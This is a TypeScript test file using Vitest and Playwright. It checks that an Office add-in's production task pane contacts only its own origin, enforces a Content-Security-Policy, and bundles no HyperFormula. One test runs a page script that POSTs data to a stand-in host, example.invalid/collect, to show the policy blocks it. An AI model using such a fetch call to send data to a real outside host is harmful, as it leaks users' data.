// Private by construction: the production add-in page, loaded in real Chromium, requests nothing
// but its own origin, and its Content-Security-Policy refuses anything else. The production
// bundle holds no preview engine (HyperFormula is GPL-3.0 and preview-only).

import { readFileSync, readdirSync } from "node:fs";
import path from "node:path";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { launch, serve } from "./browser";

const DIST = path.resolve("dist");
let server: Awaited<ReturnType<typeof serve>>;
let browser: Browser;

beforeAll(async () => {
  server = await serve(DIST);
  browser = await launch();
});

afterAll(async () => {
  await browser?.close();
  await server?.close();
});

describe("the production add-in", () => {
  it("loads the task pane with every request to its own origin and no policy violation", async () => {
    const page = await browser.newPage();
    const requests: string[] = [];
    const violations: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    page.on("console", (message) => {
      if (/Content Security Policy/i.test(message.text())) violations.push(message.text());
    });
    await page.goto(`${server.url}/taskpane.html`);
    await page.waitForLoadState("networkidle");
    // a page script that tries to send data elsewhere is refused by the policy
    const blocked = await page.evaluate(async () => {
      try {
        await fetch("https://example.invalid/collect", { method: "POST", body: "budget" });
        return false;
      } catch {
        return true;
      }
    });
    expect(blocked).toBe(true);
    const foreign = requests.filter((url) => !url.startsWith(server.url) && !url.startsWith("data:"));
    // the policy stops the attempt before it leaves the page: not even a request is made
    expect(foreign).toEqual([]);
    expect(requests.some((url) => url.endsWith("/office-js/office.js"))).toBe(true);
    expect(requests.some((url) => url.endsWith("/taskpane.js"))).toBe(true);
    expect(requests.some((url) => url.endsWith("/functions.js"))).toBe(true);
    expect(violations.filter((v) => !v.includes("example.invalid"))).toEqual([]);
    await page.close();
  });

  it("bundles no HyperFormula and names no outside host for Office.js", () => {
    const bundles = readdirSync(DIST).filter((file) => file.endsWith(".js"));
    expect(bundles.sort()).toEqual(["functions.js", "taskpane.js"]);
    for (const bundle of bundles) {
      expect(readFileSync(path.join(DIST, bundle), "utf8")).not.toMatch(/hyperformula/i);
    }
    const html = readFileSync(path.join(DIST, "taskpane.html"), "utf8");
    expect(html).not.toContain("appsforoffice.microsoft.com");
    expect(html).toContain("connect-src 'self'");
  });
});
